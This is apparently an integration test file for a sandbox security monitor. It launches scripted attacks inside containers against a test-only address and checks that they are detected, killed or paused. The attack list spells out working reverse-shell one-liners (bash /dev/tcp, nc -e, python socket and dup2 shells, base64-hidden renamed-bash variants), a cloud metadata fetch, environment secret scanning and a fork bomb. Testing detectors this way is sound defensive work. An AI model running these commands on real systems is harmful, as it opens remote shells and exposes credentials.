"""The security monitor against scripted attacks in the real `coi` image, and a benign workload.

Every attack targets a listener or address this test's network namespace holds (tests/netkit.py:
"the internet" 198.51.100.10 with listeners that hold connections on :4444 and :80, and the
metadata stand-in 169.254.169.254); routes are checked before anything is sent. coi runs as root
here, which gives the monitor the kernel's exec and exit events on top of its /proc sweeps.
"""

from __future__ import annotations

import base64
import io
import json
import os
import shutil
import subprocess
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from tests import netkit
from tests.conftest import coi_argv, run_coi
from tests.integration.conftest import wait_for

from coi.backend import IncusClient
from coi.backend.exec import ExecRequest

pytestmark = pytest.mark.timeout(2400)  # the first user of the coi image builds it

RANK = {"info": 0, "warning": 1, "high": 2, "critical": 3}


@pytest.fixture
def mon_env(build_env: dict[str, str], tmp_path: Path) -> dict[str, str]:
    cfg = tmp_path / "coi.toml"
    cfg.write_text("[monitoring]\nenabled = true\npoll_interval_sec = 1\n")
    return {**build_env, "COI_CONFIG": str(cfg), "COI_HOME": str(tmp_path / "coi-home")}


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """A workspace owned by uid 1500, so the agent (uid 1000 inside) may write it."""
    d = tmp_path / "ws"
    d.mkdir()
    os.chown(d, 1500, 1500)
    return d


def _events(env: dict[str, str]) -> list[dict[str, Any]]:
    out = []
    for f in sorted((Path(env["COI_HOME"]) / "audit").glob("*.jsonl")):
        out += [json.loads(line) for line in f.read_text().splitlines()]
    return out


def _worst(env: dict[str, str]) -> dict[str, Any]:
    return max(_events(env), key=lambda e: RANK[e["level"]])


BUSYBOX = "/opt/bb/busybox"


def _hidden(path: str, content: str, then: str) -> str:
    """Shell that writes `content` to `path` without it showing in any command line, then
    runs `then`."""
    encoded = base64.b64encode(content.encode()).decode()
    return f"echo {encoded} | base64 -d > {path} && {then}"


ATTACKS = [
    pytest.param(
        "bash -i >& /dev/tcp/198.51.100.10/4444 0>&1",
        "restricted",
        ("critical", "reverse_shell", "killed"),
        id="bash-dev-tcp",
    ),
    pytest.param(
        f"{BUSYBOX} nc 198.51.100.10 4444 -e /bin/sh",
        "restricted",
        ("critical", "reverse_shell", "killed"),
        id="nc-e",
    ),
    pytest.param(
        "python3 -c 'import socket,subprocess,os;s=socket.socket();"
        's.connect(("198.51.100.10",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'subprocess.call(["/bin/sh","-i"])\'',
        "restricted",
        ("critical", "reverse_shell", "killed"),
        id="python-socket-shell",
    ),
    pytest.param(
        # A renamed bash on the HTTPS port: no telling name, port or command line anywhere
        # (the script reaches the container encoded), only what the process does.
        _hidden(
            "/tmp/job.sh",
            "exec 3<>/dev/tcp/198.51.100.10/443\nexec /tmp/kworker -i <&3 >&3 2>&3\n",
            "cp /bin/bash /tmp/kworker && /tmp/kworker /tmp/job.sh",
        ),
        "restricted",
        ("critical", "reverse_shell", "killed"),
        id="renamed-bash-443",
    ),
    pytest.param(
        # The FIFO pipeline, hidden and renamed: the shell's stdio are pipes, and the socket
        # is nc's own (no -e, nothing in any command line says shell or mkfifo).
        _hidden(
            "/tmp/p.sh",
            "rm -f /tmp/f; mkfifo /tmp/f\n"
            f"cat /tmp/f | /tmp/kworker -i 2>&1 | {BUSYBOX} nc 198.51.100.10 443 > /tmp/f\n",
            "cp /bin/bash /tmp/kworker && /tmp/kworker /tmp/p.sh",
        ),
        "restricted",
        ("critical", "reverse_shell", "killed"),
        id="fifo-pipeline-renamed-443",
    ),
    pytest.param(
        # The socket becomes stdio after start (dup2), then the shell takes another name.
        _hidden(
            "/tmp/u.py",
            "import socket, os\ns = socket.socket()\ns.connect(('198.51.100.10', 443))\n"
            "for f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\n"
            "os.execv('/bin/sh', ['updater'])\n",
            "python3 /tmp/u.py",
        ),
        "restricted",
        ("critical", "reverse_shell", "killed"),
        id="dup2-exec-renamed-443",
    ),
    pytest.param(
        "curl -s -m 8 http://169.254.169.254/latest/meta-data/",
        "open",
        ("critical", "network", "killed"),
        id="metadata",
    ),
    pytest.param(
        "curl -s -m 8 telnet://198.51.100.10:4444 </dev/null",
        "restricted",
        ("critical", "network", "killed"),
        id="port-4444",
    ),
    pytest.param(
        # 0.3 s: shorter than a sweep interval, caught by connection tracking as it starts.
        "curl -s -m 0.3 telnet://198.51.100.10:4444 </dev/null; sleep 3; echo survived",
        "restricted",
        ("critical", "network", "killed"),
        id="port-4444-short-lived",
    ),
    pytest.param(
        "env | grep -i key; echo scanned",
        "restricted",
        ("warning", "env_scanning", "alerted"),
        id="env-grep",
    ),
    pytest.param(
        "cat /proc/1/environ >/dev/null 2>&1; echo scanned",
        "restricted",
        ("warning", "env_scanning", "alerted"),
        id="proc-environ",
    ),
]


@pytest.mark.parametrize(("script", "network", "expect"), ATTACKS)
def test_attack_is_detected_and_answered(
    client: IncusClient,
    topology: netkit.Topology,
    mon_env: dict[str, str],
    ws: Path,
    coi_image: str,
    script: str,
    network: str,
    expect: tuple[str, str, str],
) -> None:
    netkit.check_routes(topology)  # nothing leaves for a real address, even by mistake
    busybox = shutil.which("busybox")
    assert busybox
    t0 = time.monotonic()
    res = run_coi(
        "run", "--network", network, "-w", str(ws), "--mount", f"{busybox}:{BUSYBOX}:ro",
        "--", "bash", "-c", script, env=mon_env, timeout=180,
    )  # fmt: skip
    took = time.monotonic() - t0
    level, _category, action = expect
    worst = _worst(mon_env)
    assert (worst["level"], worst["category"], worst["action"]) == expect, (
        _events(mon_env),
        res.stderr,
    )
    assert f"⚠ SECURITY ALERT [{level.upper()}]" in res.stderr
    assert f"→ Action taken: {action}" in res.stderr
    if action == "killed":
        assert res.returncode == 137, res.stderr
        assert took < 60  # killed, not left to run out
    else:
        assert res.returncode == 0 and "scanned" in res.stdout, res.stderr
    # The daemon finishes removing the sandbox after coi returns.
    wait_for(
        lambda: not [n for n in client.instances.names() if n.startswith("coi-")],
        "the sandbox to be removed",
        15,
    )


def test_read_burst_pauses_and_coi_resume_continues(
    client: IncusClient, mon_env: dict[str, str], ws: Path, coi_image: str
) -> None:
    big = ws / "big"
    with open(big, "wb") as f:
        f.truncate(200 * 2**20)  # sparse: 200 MiB to read, nothing to store
    os.chown(big, 1500, 1500)
    argv = coi_argv(
        "run", "-w", str(ws), "--", "sh", "-c",
        "dd if=/workspace/big of=/dev/null bs=1M 2>/dev/null; sleep 3; echo finished",
    )  # fmt: skip
    proc = subprocess.Popen(
        argv, env=mon_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        deadline = time.monotonic() + 60
        frozen = ""
        while time.monotonic() < deadline and not frozen:
            frozen = next(
                (
                    n
                    for n in client.instances.names()
                    if n.startswith("coi-") and client.instances.get(n).status == "Frozen"
                ),
                "",
            )
            time.sleep(0.3)
        assert frozen, f"never paused: {_events(mon_env)}"
        high = [e for e in _events(mon_env) if e["level"] == "high"]
        assert high and high[0]["category"] == "filesystem" and high[0]["action"] == "paused"
        assert proc.poll() is None  # the session waits for review
        res = run_coi("resume", frozen, env=mon_env)
        assert res.returncode == 0, res.stderr
        out, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 0, err
    assert "finished" in out
    assert "PAUSED due to security threat. Resume with: coi resume" in err


def _wheel(path: Path) -> None:
    """A minimal pure-Python wheel (no network, no build backend needed)."""
    dist = "demo-1.0.dist-info"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("demo/__init__.py", "def add(a, b):\n    return a + b\n")
        z.writestr(f"{dist}/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
        z.writestr(
            f"{dist}/WHEEL",
            "Wheel-Version: 1.0\nGenerator: coi-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        z.writestr(f"{dist}/RECORD", "")


def test_benign_workload_raises_nothing_above_info(
    client: IncusClient, mon_env: dict[str, str], ws: Path, coi_image: str
) -> None:
    _wheel(ws / "demo-1.0-py3-none-any.whl")
    busybox = shutil.which("busybox")
    assert busybox
    dockerfile = (
        b"FROM scratch\nCOPY busybox /bin/busybox\n"
        b'RUN ["/bin/busybox", "--install", "-s", "/bin"]\n'
    )
    with tarfile.open(ws / "ctx.tar", "w", format=tarfile.USTAR_FORMAT) as tar:
        tar.add(busybox, arcname="busybox")
        info = tarfile.TarInfo("Dockerfile")
        info.size = len(dockerfile)
        tar.addfile(info, io.BytesIO(dockerfile))
    for f in ws.iterdir():
        os.chown(f, 1500, 1500)
    script = r"""
set -e
pip install -q --user --break-system-packages --no-index --no-deps \
  /workspace/demo-1.0-py3-none-any.whl
python3 -c 'import demo; assert demo.add(2, 2) == 4'
git init -q /tmp/src && cd /tmp/src && echo hi > README
git add README && git -c user.email=t@t -c user.name=t commit -qm init
git clone -q /tmp/src /tmp/clone && test -f /tmp/clone/README
mkdir -p /tmp/suite && cd /tmp/suite
printf '#include <assert.h>\nint add(int a, int b) { return a + b; }\n' > t.c
printf 'int main(void) { assert(add(2, 2) == 4); return 0; }\n' >> t.c
printf 'check: t\n\t./t\nt: t.c\n\tgcc -O2 -Wall -o t t.c\n' > Makefile
make -s check
for i in $(seq 1 60); do docker info >/dev/null 2>&1 && break; sleep 1; done
DOCKER_BUILDKIT=0 docker build -q -t t - < /workspace/ctx.tar >/dev/null
docker run --rm t echo container-ok
echo all-done
"""
    res = run_coi("run", "-w", str(ws), "--", "bash", "-c", script, env=mon_env, timeout=400)
    assert res.returncode == 0, res.stdout + res.stderr
    assert "container-ok" in res.stdout and "all-done" in res.stdout
    events = _events(mon_env)
    assert events and all(e["level"] == "info" for e in events), events
    assert "SECURITY ALERT" not in res.stderr


def test_coi_monitor_shows_processes_connections_and_threats(
    client: IncusClient, build_env: dict[str, str], tmp_path: Path
) -> None:
    """`coi monitor`: one look from the host, text and JSON, no response taken."""
    ws = tmp_path / "ws"
    ws.mkdir()
    env = {**build_env, "COI_HOME": str(tmp_path / "home")}
    res = run_coi("shell", "--background", "--debug", "--image", "coi-tiny", "-w", str(ws), env=env)
    assert res.returncode == 0, res.stderr
    (name,) = [n for n in client.instances.names() if n.startswith("coi-")]
    try:
        # A process shaped like a reverse shell that sends nothing (`:` is a no-op).
        stay = "sh -c 'sleep 60; : nc -e /bin/sh 198.51.100.1 4444' >/dev/null 2>&1 &"
        assert client.exec.quiet(name, ExecRequest(["sh", "-c", stay])) == 0
        # The session's network proof left a refused probe to the host in SYN_SENT for about
        # a second: `coi monitor` rightly reports it until it is gone.
        deadline = time.monotonic() + 10
        while True:
            res = run_coi("monitor", name, "--json", env=env)
            assert res.returncode == 0, res.stderr
            snap = json.loads(res.stdout)
            if len(snap["threats"]) == 1 or time.monotonic() > deadline:
                break
            time.sleep(0.5)
        assert snap["container"] == name and snap["processes"]["available"]
        commands = [p["command"] for p in snap["processes"]["processes"]]
        assert any("nc -e /bin/sh" in c for c in commands), commands
        assert [t["title"] for t in snap["threats"]] == ["Reverse shell detected"]
        assert client.instances.get(name).status == "Running"  # looking is not acting
        text = run_coi("monitor", name, env=env)
        assert text.returncode == 0, text.stderr
        assert "⚠ THREATS DETECTED: 1 critical" in text.stdout
        assert "PROCESSES (" in text.stdout and "NETWORK (" in text.stdout
        bad = run_coi("monitor", name, "--json", "--watch", "1", env=env)
        assert bad.returncode == 2 and "--json cannot be combined with --watch" in bad.stderr
    finally:
        client.instances.delete(name, force=True)


def test_a_large_read_shorter_than_a_sweep_is_seen_by_the_last_look(
    client: IncusClient, build_env: dict[str, str], tmp_path: Path, ws: Path
) -> None:
    """300 MB read in well under a second, then the command ends (poll_interval_sec = 30 is
    capped at 0.5 s, so a sweep or the monitor's last look before `coi run` removes the
    sandbox sees it)."""
    cfg = tmp_path / "slow.toml"
    # Not paused when seen while it runs (a paused `coi run` waits for review).
    cfg.write_text(
        "[monitoring]\nenabled = true\npoll_interval_sec = 30\nauto_pause_on_high = false\n"
    )
    env = {**build_env, "COI_CONFIG": str(cfg), "COI_HOME": str(tmp_path / "coi-home")}
    res = run_coi(
        "run", "--image", "coi-tiny", "-w", str(ws), "--",
        "sh", "-c", "dd if=/dev/zero of=/dev/null bs=1M count=300", env=env, timeout=120,
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    reads = [e for e in _events(env) if e["title"] == "Large read burst"]
    assert reads, _events(env)
    assert sum(e["evidence"]["filesystem"]["read_mb"] for e in reads) >= 250


def test_a_fork_bomb_that_never_execs_is_killed_at_once(
    client: IncusClient, mon_env: dict[str, str], ws: Path
) -> None:
    """Subshells forking subshells: no exec for the exec watcher, too quick for a sweep. The
    pids cgroup's counters see it (a safety limit of 3000 processes, never reached)."""
    t0 = time.monotonic()
    res = run_coi(
        "run", "--image", "coi-tiny", "--limit-processes", "3000", "-w", str(ws), "--",
        "sh", "-c", "f() { f | f & }; f; sleep 60", env=mon_env, timeout=120,
    )  # fmt: skip
    took = time.monotonic() - t0
    assert res.returncode == 137, res.stderr
    bombs = [e for e in _events(mon_env) if e["title"] == "Fork bomb detected"]
    assert bombs and bombs[0]["level"] == "critical" and bombs[0]["action"] == "killed"
    assert took < 30


def test_a_process_flood_at_the_limit_is_paused(
    client: IncusClient, mon_env: dict[str, str], ws: Path
) -> None:
    """A slow flood that fills the process limit (each fork refused there is counted). Twenty
    a second: under the quick flood rule's 24 within a second, so the limit is what it meets."""
    proc = subprocess.Popen(
        coi_argv(
            "run", "--image", "coi-tiny", "--limit-processes", "60", "-w", str(ws), "--",
            "sh", "-c",
            "i=0; while [ $i -lt 200 ]; do sleep 120 & sleep 0.05; i=$((i+1)); done; wait",
        ),
        env=mon_env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        wait_for(
            lambda: any(e["title"] == "Process limit reached" for e in _events(mon_env)),
            "the flood to be seen",
            30,
        )
        (event,) = [e for e in _events(mon_env) if e["title"] == "Process limit reached"]
        assert (event["level"], event["action"]) == ("high", "paused")
        (name,) = [n for n in client.instances.names() if n.startswith("coi-")]
        wait_for(lambda: client.instances.get(name).status == "Frozen", "the pause", 10)
        client.instances.delete(name, force=True)
    finally:
        proc.kill()
        proc.communicate()
